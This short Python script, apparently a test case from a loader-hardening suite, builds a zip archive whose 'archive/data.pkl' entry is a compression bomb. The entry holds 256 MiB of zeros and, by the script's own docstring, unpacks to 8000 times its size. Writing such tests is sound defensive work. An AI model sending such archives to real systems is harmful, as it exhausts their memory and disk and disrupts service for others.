"""A record that unpacks to 8000 times its size."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from attacks.trial import main, write_sealed


def attack(folder: Path) -> Path:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file,
        file.open("archive/data.pkl", "w") as record,
    ):
        for _ in range(256):
            record.write(bytes(1 << 20))
    return write_sealed(folder, buffer.getvalue())


if __name__ == "__main__":
    main(attack)
